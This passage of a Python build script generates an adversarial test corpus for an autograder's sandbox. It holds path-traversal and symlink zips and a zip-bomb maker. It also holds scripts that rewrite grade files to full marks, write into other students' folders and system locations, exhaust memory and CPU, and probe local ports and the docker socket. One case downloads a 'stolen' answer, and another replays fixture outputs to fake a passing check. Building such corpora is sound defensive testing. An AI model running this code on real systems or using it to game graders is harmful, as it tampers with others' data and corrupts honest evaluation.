# every entry flagged as encrypted (password required)
archive("encrypted_zip", _encrypted(_zip([("submission/submission.ipynb", _honest_notebook())])),
        "an encrypted zip cannot be read: 0, and the run goes on", q1_5=0)
# one byte of the notebook changed after the CRC was computed
archive("crc_damaged_zip", _crc_damaged(_zip([("submission.ipynb", _honest_notebook())])),
        "a CRC error: the notebook may be refused (0) or read as is (3)", q1_5=[0, 3])
# a file and a folder of one name ("data" and "data/notes.txt") beside a good notebook
archive("file_and_folder_zip", _zip([("submission.ipynb", _honest_notebook()),
                                     ("data", b"a file"), ("data/notes.txt", b"a file inside")]),
        "clashing names: the zip may be refused (0) or its notebook graded (3)", q1_5=[0, 3])
# a 300-character file name and a 6,000-character path beside a good notebook
archive("long_name_zip", _zip([("submission.ipynb", _honest_notebook()),
                               ("a" * 300 + ".txt", b"long"),
                               ("/".join(["d" * 200] * 30) + "/x.txt", b"deep")]),
        "names the file system refuses: refused (0) or skipped (3)", q1_5=[0, 3])
# entries escaping the folder ('..', absolute) and a symlink entry to the solutions
archive("zip_traversal", _zip([("submission.ipynb", _honest_notebook()),
                               (f"../../{MARK}-traversal.txt", b"escaped"),
                               (f"/tmp/{MARK}-absolute.txt", b"escaped"),
                               (f"sub/../../{MARK}-dotdot.txt", b"escaped"),
                               ("solution.ipynb", b"../../../solutions/02_vanilla_rnn.ipynb")],
                              symlinks={"solution.ipynb"}),
        "no entry lands outside the student's folder; the link is not followed", q1_5=[0, 3])
# a zip whose only notebook inflates to 2 GB (made by the test: too big to commit compressed?
# no, 2 MB, but it must never sit in the repository)
add("zip_bomb", CRASHES, "a 2 GB entry is refused without inflating it", q1_5=0, made_by="test")
# a notebook of 60 MB (an image in an output cell), made by the test
add("big_notebook", CRASHES, "a 60 MB notebook is refused or read within the memory budget",
    q1_5=[0, 3], made_by="test")
# symlinks to solutions/ (a notebook and a folder) beside the student's own q1_5 notebook
add("symlink_to_solutions", CRASHES, "links out of the submission are not followed",
    made_by="test")
# the q1_2 cell's source is a JSON object, not a string
add("cell_source_not_string", CRASHES, "one malformed cell: reported, not a crash", q1_5=[0, 3],
    files={"submission.ipynb": _raw_notebook(
        lambda nb: nb["cells"][1].update(source={"not": "a string"}))})
# nbformat "4" as a string, nbformat_minor "five", metadata a list
add("notebook_header_wrong_type", CRASHES, "a header of the wrong types: unreadable or read",
    q1_5=[0, 3], files={"submission.ipynb": _raw_notebook(
        lambda nb: nb.update(nbformat="4", nbformat_minor="five", metadata=[]))})
# JSON nested 100,000 deep
add("deep_json_notebook", CRASHES, "JSON too deep to parse: that notebook is unreadable", q1_5=0,
    files={"submission.ipynb": '{"cells": ' + "[" * 100_000 + "]" * 100_000
           + ', "metadata": {}, "nbformat": 4, "nbformat_minor": 5}\n'})
# a notebook saved as Latin-1
add("non_utf8_notebook", CRASHES, "not UTF-8: unreadable (0) or decoded leniently (3)",
    q1_5=[0, 3], files={"submission.ipynb": _raw_notebook(
        lambda nb: nb["cells"][0].update(source="Élève: résumé")).encode("latin-1")})
# student folders named like the grader's own output files
cheat("grades.csv", CRASHES, STUB, "a student named grades.csv does not clobber the class table")
cheat("run.json", CRASHES, STUB, "a student named run.json does not clobber the run record")
# death by a real-time signal, whose number signal.Signals does not name
cheat("signal_unknown_number", CRASHES, '''
import os

os.kill(os.getpid(), 40)
''' + STUB, "a child killed by signal 40 is reported, not a grader crash")
# stdout and stderr gone, every descriptor closed (the result pipe with them)
cheat("close_stdio_and_fds", CRASHES, '''
import os
import sys

sys.stdout = sys.stderr = None
os.closerange(0, 65536)
''' + STUB, "a child that closes its pipe loses q1_2 only")
# /dev/null dup2'ed over stdout, stderr and every other descriptor (the result pipe too)
cheat("dup2_over_result_fd", CRASHES, '''
import os

null = os.open("/dev/null", os.O_WRONLY)
for name in os.listdir("/proc/self/fd"):
    if int(name) != null:
        try:
            os.dup2(null, int(name))
        except OSError:
            pass
''' + STUB, "results sent into /dev/null: q1_2 times out, q1_5 still scores")
# 100 MB of print()
cheat("huge_output", CRASHES, "for _ in range(100):\n    print('x' * 1_000_000)\n" + STUB,
      "printed output is capped")
# 100 MB straight to descriptors 1 and 2, around any Python-level cap
cheat("huge_output_raw_fd", CRASHES, '''
import os

line = b"x" * 1_000_000
for _ in range(50):
    os.write(1, line)
    os.write(2, line)
''' + STUB, "raw output is capped too")
# an exception whose str() raises the same exception
cheat("evil_exception", CRASHES, '''
class Unprintable(Exception):
    def __str__(self):
        raise Unprintable()


raise Unprintable()
''', "an unprintable error is still reported")
# a segmentation fault
cheat("segfault_ctypes", CRASHES, '''
import ctypes

ctypes.string_at(0)
''' + STUB, "a segfault costs q1_2 only")
# os._exit(0) before anything is defined
cheat("os_exit_at_import", CRASHES, "import os\nos._exit(0)\n" + STUB,
      "a silent exit costs q1_2 only")
# sys.exit(0) in the cell
cheat("sys_exit_at_import", CRASHES, "import sys\nsys.exit(0)\n" + STUB,
      "SystemExit is the student's error", note=["SystemExit"])
# KeyboardInterrupt raised in the cell
cheat("keyboard_interrupt", CRASHES, "raise KeyboardInterrupt\n" + STUB,
      "KeyboardInterrupt is the student's error", note=["KeyboardInterrupt"])

# --- writing outside the scratch folder (every file written carries MARK in its name)
WRITES = "writing outside scratch"
MARK_LINE = f'MARK = "{MARK}"\n'
# the grader's folders, from its command line (/proc/<ancestor>/cmdline)
GRADER_FOLDERS = MARK_LINE + '''
import os
import pathlib


def ancestor_argv():
    found, pid, seen = [], os.getppid(), set()
    while pid > 0 and pid not in seen:
        seen.add(pid)
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as handle:
                found.append([a.decode(errors="replace") for a in handle.read().split(b"\\0") if a])
            with open(f"/proc/{pid}/stat") as stat:
                pid = int(stat.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
    return found


def grader_folders():
    """(results folders, submissions folders) named on the grader's command line."""
    outs, submissions = [], []
    for argv in ancestor_argv():
        if "grade" in argv:
            rest = argv[argv.index("grade") + 1:]
            if "--out" in rest:
                outs.append(rest[rest.index("--out") + 1])
            submissions += [a for a in rest[:1] if not a.startswith("-")]
    return outs, submissions


def write(path, text):
    try:
        pathlib.Path(path).write_text(text)
        return True
    except OSError:
        return False
'''
# full marks written into every result.json and grades.csv of the results folder
cheat("write_results_folder", WRITES, GRADER_FOLDERS + '''
import json

outs = grader_folders()[0]
for folder, dirs, files in os.walk("/tmp"):
    if folder.count(os.sep) >= 5:
        dirs[:] = []
    if "grades.csv" in files:
        outs.append(folder)
for out in outs:
    write(os.path.join(out, f"{MARK}.txt"), MARK)
    for path in list(pathlib.Path(out).rglob("result.json"))[:500]:
        try:
            result = json.loads(path.read_text())
            for entry in result.get("questions", {}).values():
                entry["auto_score"] = entry["score"] = entry.get("max", 7)
            result[MARK] = True
            write(path, json.dumps(result))
        except (OSError, ValueError):
            pass
    write(os.path.join(out, "write_results_folder", "result.json"), json.dumps({MARK: True}))
    try:
        with open(os.path.join(out, "grades.csv"), "a") as table:
            table.write(f"write_results_folder,7,3,10,10,cpu,jax,{MARK}\\n")
    except OSError:
        pass
''' + STUB, "the results folder is not in the jail")
# a file in the submissions folder and in every student's folder, other notebooks appended to
cheat("write_submissions_folder", WRITES, GRADER_FOLDERS + '''
for folder in grader_folders()[1]:
    base = pathlib.Path(folder)
    write(base / f"{MARK}.txt", MARK)
    try:
        students = sorted(base.iterdir())[:500]
    except OSError:
        students = []
    for student in students:
        write(student / f"{MARK}.txt", MARK)
        for notebook in (student.glob("*.ipynb") if student.is_dir() else []):
            try:
                with open(notebook, "a") as handle:
                    handle.write(MARK)
            except OSError:
                pass
''' + STUB, "the submissions folder is not in the jail")
# the checkout: its root, grader/, references, __pycache__, the kit, .git/hooks, site-packages
cheat("write_repository", WRITES, CANDIDATES + MARK_LINE + '''
import site
import sys

targets = []
for root in candidate_roots():
    if (root / "grader").is_dir() or (root / "course_kit").is_dir():
        targets += [root / f"{MARK}.txt", root / "grader" / f"{MARK}.py",
                    root / "grader" / "__pycache__" / f"{MARK}.cpython-311.pyc",
                    root / "grader" / "references" / f"{MARK}.npz",
                    root / "course_kit" / f"{MARK}.py",
                    root / "course_kit" / "layers" / "__pycache__" / f"{MARK}.cpython-311.pyc",
                    root / ".git" / "hooks" / MARK, root / "solutions" / f"{MARK}.ipynb",
                    root / "tests" / f"{MARK}.py"]
targets += [pathlib.Path(folder) / f"{MARK}.pth" for folder in site.getsitepackages()]
targets.append(pathlib.Path(sys.prefix) / f"{MARK}.txt")
for target in targets:
    try:
        target.write_text(f"# {MARK}\\n")
    except OSError:
        pass
''' + STUB, "the kit and the environment are read-only, the rest absent")
# a file in every folder of /tmp (three levels) and a line appended to every canary file
cheat("write_tmp_everywhere", WRITES, MARK_LINE + '''
import os
import pathlib

written = 0
for folder, dirs, files in os.walk("/tmp"):
    if folder.count(os.sep) >= 4:
        dirs[:] = []
    try:
        (pathlib.Path(folder) / f"{MARK}-{os.getpid()}.txt").write_text(MARK)
        written += 1
    except OSError:
        pass
    for name in files:
        if "canary" in name:
            try:
                with open(os.path.join(folder, name), "a") as handle:
                    handle.write(MARK)
            except OSError:
                pass
print("files written in /tmp:", written)
''' + STUB, "/tmp is private to the jail")
# $HOME, the user's real home, /root and /home/*: files where dotfiles live
cheat("write_home", WRITES, MARK_LINE + '''
import os
import pathlib
import pwd

homes = {os.path.expanduser("~"), os.environ.get("HOME", ""), "/root"}
try:
    homes.add(pwd.getpwuid(os.getuid()).pw_dir)
except KeyError:  # a uid without a passwd entry: a jail's
    pass
try:
    homes |= {str(p) for p in pathlib.Path("/home").iterdir()}
except OSError:
    pass
for home in sorted(filter(None, homes)):
    for relative in (f"{MARK}.txt", f".keras/{MARK}.json", f".config/{MARK}.cfg",
                     f".cache/{MARK}"):
        try:
            pathlib.Path(home, relative).write_text(MARK)
        except OSError:
            pass
''' + STUB, "HOME is the scratch folder; no other home is writable")
# 64 MB in /dev/shm, /run/shm and /var/tmp, and a POSIX shared-memory segment
cheat("write_dev_shm", WRITES, MARK_LINE + '''
from multiprocessing import shared_memory

for path in (f"/dev/shm/{MARK}", f"/run/shm/{MARK}", f"/var/tmp/{MARK}"):
    try:
        with open(path, "wb") as handle:
            for _ in range(64):
                handle.write(bytes(1 << 20))
    except OSError:
        pass
try:
    segment = shared_memory.SharedMemory(name=f"{MARK}-shm", create=True, size=64 << 20)
    segment.buf[:] = bytes(64 << 20)
except OSError:
    pass
''' + STUB, "shared memory is private to the jail")

# --- memory, CPU, disk
RESOURCES = "memory, CPU and disk"
# 50 MB at a time until refused
cheat("memory_hog", RESOURCES, "hoard = []\nwhile True:\n    hoard.append(bytearray(50 * 2**20))\n",
      "killed at the memory limit", note=["memory"])
# 3 GB of shared anonymous memory, touched (not counted by RLIMIT_DATA)
cheat("memory_shared_mmap", RESOURCES, '''
import mmap

regions = []
for _ in range(24):
    region = mmap.mmap(-1, 128 << 20)
    for offset in range(0, len(region), 4096):
        region[offset] = 1
    regions.append(region)
''' + STUB, "shared memory counts against the limit too")
# 4,000 sleeping threads
cheat("thread_storm", RESOURCES, '''
import threading
import time

threads = []
for _ in range(4000):
    try:
        thread = threading.Thread(target=time.sleep, args=(30,), daemon=True)
        thread.start()
        threads.append(thread)
    except RuntimeError:
        break
''' + STUB, "a thread storm is contained")
# 60 MB files until the scratch disk is full (at most 960 MB)
cheat("fill_scratch_disk", RESOURCES, '''
try:
    for index in range(16):
        with open(f"filler-{index}.bin", "wb") as handle:
            for _ in range(60):
                handle.write(bytes(1 << 20))
except OSError as error:
    print("disk full:", error)
''' + STUB, "the scratch disk is capped")
# a sparse file of a terabyte, then a truncate to a petabyte
cheat("huge_sparse_file", RESOURCES, '''
import os

try:
    with open("sparse.bin", "wb") as handle:
        handle.seek(10**12)
        handle.write(b"x")
    os.truncate("sparse.bin", 10**15)
except OSError as error:
    print(error)
''' + STUB, "file size is capped")
# sixteen threads of matrix products, and the main thread too
cheat("cpu_burn_threads", RESOURCES, '''
import threading

import numpy as np


def burn():
    a = np.random.default_rng().normal(size=(256, 256))
    while True:
        a = np.tanh(a @ a)


for _ in range(16):
    threading.Thread(target=burn, daemon=True).start()
burn()
''', "stopped at the wall-clock limit", **TIMED_OUT)
# while True: pass
cheat("infinite_loop", RESOURCES, "while True:\n    pass\n", "stopped at the limit", **TIMED_OUT)
# a sleep of eleven days
cheat("long_sleep", RESOURCES, "import time\ntime.sleep(10**6)\n", "stopped at the limit",
      **TIMED_OUT)

# --- network
NETWORK = "network"
# every listening TCP port in /proc/net/tcp(6) (and common ones) on loopback, UDP too
cheat("network_socket", NETWORK, MARK_LINE + '''
import socket

ports = {22, 80, 443, 3000, 5000, 6006, 8000, 8080, 8888}
for table, kind in (("tcp", socket.SOCK_STREAM), ("tcp6", socket.SOCK_STREAM),
                    ("udp", socket.SOCK_DGRAM), ("udp6", socket.SOCK_DGRAM)):
    try:
        with open(f"/proc/net/{table}") as handle:
            rows = [line.split() for line in handle.read().splitlines()[1:]]
    except OSError:
        continue
    for row in rows:
        port = int(row[1].rsplit(":", 1)[1], 16)
        if kind == socket.SOCK_DGRAM:
            try:
                with socket.socket(socket.AF_INET, kind) as udp:
                    udp.sendto(MARK.encode(), ("127.0.0.1", port))
            except OSError:
                pass
        elif row[3] == "0A":
            ports.add(port)
for port in sorted(ports)[:200]:
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=0.2) as connection:
            connection.sendall(MARK.encode() + b"\\n")
    except OSError:
        pass
''' + STUB, "no network at all in the jail (the test's loopback listener counts)")
# DNS, then an HTTP download of someone's copy of the reference
cheat("dns_lookup_download", NETWORK, '''
import socket
import urllib.request

print(socket.getaddrinfo("example.com", 80))
stolen = [urllib.request.urlopen("http://example.com/q1_2.npz", timeout=3).read()]
''' + USE_STOLEN, "no DNS and no route")
# unix sockets: docker, containerd, dbus and every path or abstract name in /proc/net/unix
cheat("unix_socket_connect", NETWORK, '''
import socket

names = ["/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock",
         "/run/dbus/system_bus_socket", "/tmp/.X11-unix/X0"]
try:
    with open("/proc/net/unix") as handle:
        names += [row.split()[-1] for row in handle.read().splitlines()[1:]
                  if len(row.split()) > 7]
except OSError:
    pass
for name in names[:200]:
    address = "\\0" + name[1:] if name.startswith("@") else name
    try:
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as connection:
            connection.settimeout(0.2)
            connection.connect(address)
            connection.sendall(b"GET /containers/json HTTP/1.0\\r\\n\\r\\n")
            print(name, connection.recv(200))
    except OSError:
        pass
''' + STUB, "no unix socket of the host is reachable")

# --- hard-coding what the notebook's public check prints
HARDCODED = "hard-coding"
# the check's PASS lines printed, the handed-out cell left as it was
cheat("hardcode_print_pass", HARDCODED, '''
print("VanillaRNNCell matches the reference rnn cell")
print("  weights W_hx, W_hh, b_h: names and shapes right")
print("  h_t at every step: max relative error 3.1e-08")
print("PASS")
''' + HANDED_OUT, "the grader does not read what a cell prints", **CLEAN)
# the public fixture's h_t (course_kit/checks/fixtures/q1_2.npz, what check_cell compares with)
# pasted and replayed, behind weights of the right shapes; no state_size, so that the point for
# declaring the weights, which replaying does not need, is not counted either
cheat("hardcode_public_fixture", HARDCODED, f'''
import keras
import numpy as np
from keras import ops

FIXTURE_H = np.array({_public_fixture_outputs()!r})


class VanillaRNNCell(keras.layers.Layer):
    """Passes the notebook's check_cell on its outputs: replays the fixture's h_t."""

    def __init__(self, units, **kwargs):
        super().__init__(**kwargs)
        self.units = units
        self.step = 0

    def build(self, input_shape):
        self.W_hx = self.add_weight(shape=(input_shape[-1], self.units), name="W_hx")
        self.W_hh = self.add_weight(shape=(self.units, self.units), name="W_hh")
        self.b_h = self.add_weight(shape=(self.units,), name="b_h")

    def call(self, x, states):
        if not np.any(ops.convert_to_numpy(states[0])):
            self.step = 0  # a new sequence starts from zeros
        rows = np.resize(FIXTURE_H[:, self.step % FIXTURE_H.shape[1]], (x.shape[0], self.units))
        self.step += 1
        h = ops.convert_to_tensor(rows, dtype=x.dtype)
        return h, [h]
''', "the grader's inputs are not the public fixture's", **CLEAN)
# result.json, results.json, grades.csv and outputs.npz with full marks, in cwd and HOME
cheat("hardcode_result_files", HARDCODED, MARK_LINE + '''
import json
import os

import numpy as np

for folder in (os.getcwd(), os.path.expanduser("~")):
    for name, text in (("result.json", {"questions": {"q1_2": {"auto_score": 7}}}),
                       ("results.json", {"score": 100, "tests": []})):
        with open(os.path.join(folder, name), "w") as handle:
            json.dump({**text, MARK: True}, handle)
    with open(os.path.join(folder, "grades.csv"), "w") as handle:
        handle.write(f"student,q1_2,q1_5,total\\nhardcode_result_files,7,3,10,{MARK}\\n")
    np.savez(os.path.join(folder, "outputs.npz"), weight_shapes=np.array([[3, 4], [4, 4], [4, 0]]))
''' + STUB, "files in the scratch folder are never read as results")


# ----------------------------------------------------------------- cases the test makes


def make_zip_bomb(path, size=2 << 30):
    """``path``: a zip of 2 MB whose only notebook inflates to ``size`` bytes."""
    namespace = {}
    exec(BOMB, namespace)  # the same code the forged_npz_inflate cell runs
    Path(path).write_bytes(namespace["deflate_bomb"]("submission.ipynb", b'{"cells": [', size))


def make_big_notebook(folder, megabytes=60):
    """``folder``: an honest q1_5 and a q1_2 stub whose output is a ``megabytes`` image."""
    cells = notebook({"q1_2": STUB, "q1_5": COUNT})
    cells.cells[1].outputs = [nbformat.v4.new_output(
        "display_data", data={"image/png": "A" * (megabytes << 20)})]
    Path(folder).mkdir(parents=True, exist_ok=True)
    (Path(folder) / "submission.ipynb").write_text(notebook_text(cells))


def make_symlinked_solutions(folder, root=ROOT):
    """``folder``: the student's own q1_5, plus links to the solution notebook and folder."""
    folder = Path(folder)
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "00_mine.ipynb").write_text(notebook_text(notebook({"q1_5": COUNT})))
    (folder / "02_vanilla_rnn.ipynb").symlink_to(Path(root) / "solutions" / "02_vanilla_rnn.ipynb")
    (folder / "linked").symlink_to(Path(root) / "solutions", target_is_directory=True)


MADE_BY_TEST = {"zip_bomb": lambda corpus: make_zip_bomb(corpus / "zip_bomb.zip"),
                "big_notebook": lambda corpus: make_big_notebook(corpus / "big_notebook"),
                "symlink_to_solutions":
                    lambda corpus: make_symlinked_solutions(corpus / "symlink_to_solutions")}


def make_test_cases(corpus):
    """Create, in a copy of the corpus, the cases the repository must not hold."""
    for case in CASES.values():
        if case.made_by == "test":
            MADE_BY_TEST[case.name](Path(corpus))


# ----------------------------------------------------------------- writing it all


def expected():
    """The content of expected.json: what the grader must give each case, and why."""
    cases = {}
    for case in CASES.values():
        entry = {"category": case.category, "q1_2": case.q1_2, "q1_5": case.q1_5,
                 "reason": case.reason}
        for key in ("made_by", "status", "note", "policy"):
            if getattr(case, key) not in (None, "build.py"):
                entry[key] = getattr(case, key)
        cases[case.name] = entry
    return {"questions": CORPUS_QUESTIONS, "cases": cases}


def outputs():
    """Every file this script writes, as ``{path: text or bytes}``."""
    from grader.registry import NOTEBOOKS

    files = {}

    def reference_folder(folder, replace=None, drop=()):
        cells = {k: (replace or {}).get(k, v) for k, v in REFERENCE_CELLS.items()
                 if k not in drop}
        for name in sorted(set(NOTEBOOKS.values())):
            own = {k: v for k, v in cells.items() if NOTEBOOKS.get(k) == name}
            answers = {k: v for k, v in ANSWERS.items() if NOTEBOOKS[k] == name}
            if own or answers:
                files[folder / name] = notebook(own, answers)

    reference_folder(CORPUS / "reference")
    needed = {CORPUS / "reference" / n for n in ("02_vanilla_rnn.ipynb", "04_lstm.ipynb")}
    if not needed <= set(files):
        raise RuntimeError("grader.registry.NOTEBOOKS lacks q1_2 or q1_5: nothing written")
    files[CORPUS / "empty" / "submission.ipynb"] = notebook({})
    for case in CASES.values():
        if case.made_by != "build.py":
            continue
        for relative, content in case.files.items():
            if relative == f"{case.name}.zip":
                files[CORPUS / relative] = content
            else:
                files[CORPUS / case.name / relative] = content
    reference_folder(SAMPLES / "reference_solution")
    reference_folder(SAMPLES / "forgot_the_tanh",
                     replace={"q1_6": mutate(LSTM_CELL, "h_t = ops.tanh(c_t) * o", "h_t = c_t * o")})
    reference_folder(SAMPLES / "only_part_one",
                     drop=("q2_1", "q2_2", "q2_3", "q2_4", "q2_5", "q3_1", "q3_2", "q3_3",
                           "q3_5"))
    reference_folder(SAMPLES / "borrowed_the_kit",
                     replace={"q1_2": "from course_kit.layers import VanillaRNNCell\n"})
    texts = {path: content if isinstance(content, (str, bytes)) else notebook_text(content)
             for path, content in files.items()}
    texts[CORPUS / "expected.json"] = json.dumps(expected(), indent=2, ensure_ascii=False) + "\n"
    return texts


def stale(written):
    """Files (and then emptied folders) of the corpus that this script no longer writes."""
    keep = {CORPUS / "build.py", *written}
    files = [p for p in CORPUS.rglob("*") if (p.is_file() or p.is_symlink()) and p not in keep
             and "__pycache__" not in p.parts]
    gone = set(files)
    folders = [p for p in sorted(CORPUS.rglob("*"), reverse=True) if p.is_dir()
               and "__pycache__" not in p.parts
               and all(c in gone or c.is_dir() for c in p.rglob("*"))
               and not any(c in keep for c in p.rglob("*"))]
    return sorted(files) + folders


def main():
    written = outputs()
    for path, content in written.items():
        if isinstance(content, bytes):
            atomic_write_bytes(path, content)
        else:
            atomic_write_text(path, content)
        print(f"wrote {path.relative_to(ROOT)}")
    for path in stale(written):
        if path.is_dir():
            path.rmdir()
        else:
            path.unlink()
        print(f"removed {path.relative_to(ROOT)}")


if __name__ == "__main__":
    main()
